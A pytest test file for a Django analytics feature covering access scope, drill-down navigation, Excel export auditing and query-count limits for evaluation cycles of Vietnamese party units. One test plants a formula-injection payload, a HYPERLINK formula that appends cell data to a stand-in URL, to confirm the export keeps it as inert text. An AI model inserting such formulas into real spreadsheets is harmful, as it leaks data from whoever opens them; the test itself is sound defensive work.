"""Analytics pages with the named cast: scope, drill-down, Excel export, query counts."""

from __future__ import annotations

import io
from collections.abc import Iterator

import pytest
from django.core.cache import cache
from django.urls import reverse
from openpyxl import load_workbook

from tochuc.audit.models import AuditEvent
from tochuc.conftest import Tree, login
from tochuc.evaluations.models import EvaluationCycle
from tochuc.evaluations.tests.analytics_data import make_cycle, rate
from tochuc.orgunits.models import OrgUnit
from tochuc.orgunits.services import unit_create

G, E, C = "good", "excellent", "completed"
# Session, user, grants; the cycles, the unit, the analytics (6 at most), crumbs, scope roots;
# and a little room for what the base layout itself reads (e.g. the unread notifications).
PAGE_QUERIES = 15


@pytest.fixture(autouse=True)
def _fresh_cache() -> Iterator[None]:
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def cycle(tree: Tree) -> EvaluationCycle:
    cycle = make_cycle(tree.province, "DG-T01-2025")
    rate(cycle, tree.cell, [G] * 9 + [E], collective=C)  # X01: everyone good or better …
    rate(cycle, tree.commune, [], collective=C)  # … while the commune's collective is only Completed
    rate(cycle, tree.commune2, [G] * 7 + [E] + [C] * 2, collective=G)
    return cycle


def _url(cycle: EvaluationCycle, unit: OrgUnit, name: str = "evaluations:analytics_unit") -> str:
    return reverse(name, args=[cycle.code, unit.code])


@pytest.mark.django_db
def test_landing_page_defaults_to_latest_cycle_and_top_unit(tree: Tree, inside, cycle) -> None:
    make_cycle(tree.province, "DG-T01-2024", year=2024)
    response = login(inside).get(reverse("evaluations:analytics"))
    assert response.status_code == 200
    assert response.context["cycle"] == cycle and response.context["unit"] == tree.province
    html = response.content.decode()
    assert "Đảng bộ xã An Bình" in html and "Đảng bộ xã Đức Thọ" in html
    assert "Cá nhân cao, tập thể thấp" in html
    assert "nếu chưa quyết định thì lấy xếp loại đề xuất" in html
    assert 'id="analytics-distribution"' in html  # the stacked bars
    flagged = response.context["data"].flagged
    assert [r.unit.code for r in flagged] == ["T01-X01"]
    # The flagged list comes before the chart and the table.
    assert html.index('data-testid="analytics-flagged"') < html.index('data-testid="analytics-table"')


@pytest.mark.django_db
def test_chooser_parameters_pick_cycle_and_unit(tree: Tree, inside, cycle) -> None:
    response = login(inside).get(reverse("evaluations:analytics"), {"cycle": cycle.code, "unit": "t01-x02"})
    assert response.status_code == 200 and response.context["unit"] == tree.commune2


@pytest.mark.django_db
def test_drill_down_to_the_cell_with_crumbs_back_up(tree: Tree, inside, cycle) -> None:
    client = login(inside)
    commune = client.get(_url(cycle, tree.commune)).content.decode()
    assert _url(cycle, tree.grassroots) in commune
    assert _url(cycle, tree.province) in commune  # crumb back up
    grassroots = client.get(_url(cycle, tree.grassroots)).content.decode()
    assert _url(cycle, tree.cell) in grassroots
    cell = client.get(_url(cycle, tree.cell))
    html = cell.content.decode()
    assert 'data-testid="analytics-people"' in html
    assert len(cell.context["data"].people) == 10
    for ancestor in (tree.province, tree.commune, tree.grassroots):
        assert _url(cycle, ancestor) in html


@pytest.mark.django_db
def test_outside_gets_404_and_anonymous_is_redirected(tree: Tree, outside, client, cycle) -> None:
    other = login(outside)
    assert other.get(_url(cycle, tree.province)).status_code == 404
    assert other.get(_url(cycle, tree.province, "evaluations:analytics_export")).status_code == 404
    assert other.get(reverse("evaluations:analytics"), {"cycle": cycle.code}).status_code == 404
    theirs = make_cycle(tree.other_province, "DG-T02-2025")
    assert other.get(_url(theirs, tree.province)).status_code == 404  # a unit of another province
    assert other.get(_url(theirs, tree.other_province)).status_code == 200
    for url in (reverse("evaluations:analytics"), _url(cycle, tree.province)):
        response = client.get(url)
        assert response.status_code == 302 and "login" in response["Location"]


@pytest.mark.django_db
def test_leader_sees_his_commune_not_the_province(tree: Tree, leader, cycle) -> None:
    client = login(leader)
    response = client.get(reverse("evaluations:analytics"))
    assert response.status_code == 200 and response.context["unit"] == tree.commune
    assert client.get(_url(cycle, tree.province)).status_code == 404


@pytest.mark.django_db
def test_no_cycle_says_so(tree: Tree, inside) -> None:
    response = login(inside).get(reverse("evaluations:analytics"))
    assert response.status_code == 200
    assert 'data-testid="analytics-empty"' in response.content.decode()


@pytest.mark.django_db
def test_excel_export_has_the_table_and_is_audited(tree: Tree, inside, cycle) -> None:
    response = login(inside).get(_url(cycle, tree.province, "evaluations:analytics_export"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "DG-T01-2025-T01.xlsx" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    header = next(r for r in rows if r and r[0] == "Mã đơn vị")
    assert header[:5] == ["Mã đơn vị", "Đơn vị", "Số cá nhân", "HTXSNV (người)", "HTXSNV (tỷ lệ)"]
    assert header[-2:] == ["Xếp loại tập thể", "Dấu hiệu cần xem xét"]
    by_code = {r[0]: dict(zip(header, r, strict=True)) for r in rows[rows.index(header) + 1 :]}
    x01 = by_code["T01-X01"]
    assert x01["Số cá nhân"] == 10 and x01["HTTNV (người)"] == 9 and x01["HTXSNV (người)"] == 1
    assert x01["Tỷ lệ HTTNV trở lên"] == pytest.approx(1.0)
    assert x01["Xếp loại tập thể"] == "Hoàn thành nhiệm vụ"
    assert "Cá nhân cao, tập thể thấp" in x01["Dấu hiệu cần xem xét"]
    assert by_code["T01-X02"]["HTNV (tỷ lệ)"] == pytest.approx(0.2)
    assert not by_code["T01-X02"]["Dấu hiệu cần xem xét"]
    event = AuditEvent.objects.get(action="evaluation.analytics_export")
    assert event.actor_id == inside.pk and event.unit_path == tree.province.path
    assert event.summary["flagged"] == ["T01-X01"] and event.summary["individuals"] == 20


@pytest.mark.django_db
def test_query_count_does_not_grow_with_units_or_people(
    tree: Tree, inside, cycle, django_assert_max_num_queries
) -> None:
    client = login(inside)
    client.get(_url(cycle, tree.province))  # session, grants
    with django_assert_max_num_queries(PAGE_QUERIES):
        assert client.get(_url(cycle, tree.province)).status_code == 200
    for k in range(3, 9):
        commune = unit_create(
            actor=None, parent=tree.province, code=f"T01-X0{k}", name=f"Xã {k}", kind="commune"
        )
        cell = unit_create(actor=None, parent=commune, code=f"T01-X0{k}-CB1", name=f"Chi bộ {k}", kind="cell")
        rate(cycle, cell, [G] * 20 + [E] * 5, scores=[80.0] * 25, collective=G)
    with django_assert_max_num_queries(PAGE_QUERIES):
        big = client.get(_url(cycle, tree.province))
    assert len(big.context["data"].rows) == 8


@pytest.mark.django_db
def test_commune_drill_down_query_budget(tree: Tree, inside, cycle, django_assert_max_num_queries) -> None:
    client = login(inside)
    client.get(_url(cycle, tree.commune))
    with django_assert_max_num_queries(PAGE_QUERIES):
        assert client.get(_url(cycle, tree.commune)).status_code == 200


@pytest.mark.django_db
def test_selector_query_count_is_fixed(tree: Tree, inside, cycle, django_assert_num_queries) -> None:
    from tochuc.evaluations.analytics import analytics_for

    make_cycle(tree.province, "DG-T01-2024", year=2024)
    analytics_for(inside, cycle, tree.province)  # the grants are read once per request
    # distributions, children, previous cycle, collectives of both cycles, previous distributions
    with django_assert_num_queries(5):
        data = analytics_for(inside, cycle, tree.province)
    assert data.previous_cycle is not None
    # a unit without children: distributions, children, collectives, its people
    with django_assert_num_queries(4):
        assert len(analytics_for(inside, cycle, tree.cell).people) == 10


@pytest.mark.django_db
def test_excel_export_keeps_formula_like_names_as_text(tree: Tree, inside, cycle) -> None:
    hyperlink = '=HYPERLINK("http://x?d="&A2,"y")'
    OrgUnit.objects.filter(pk=tree.commune2.pk).update(name="=1+1")
    OrgUnit.objects.filter(pk=tree.commune.pk).update(name=hyperlink)
    response = login(inside).get(_url(cycle, tree.province, "evaluations:analytics_export"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    names = {row[0].value: row[1] for row in sheet.iter_rows() if row[0].value in {"T01-X01", "T01-X02"}}
    assert names["T01-X02"].value == "=1+1" and names["T01-X02"].data_type == "s"
    assert names["T01-X01"].value == hyperlink and names["T01-X01"].data_type == "s"
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
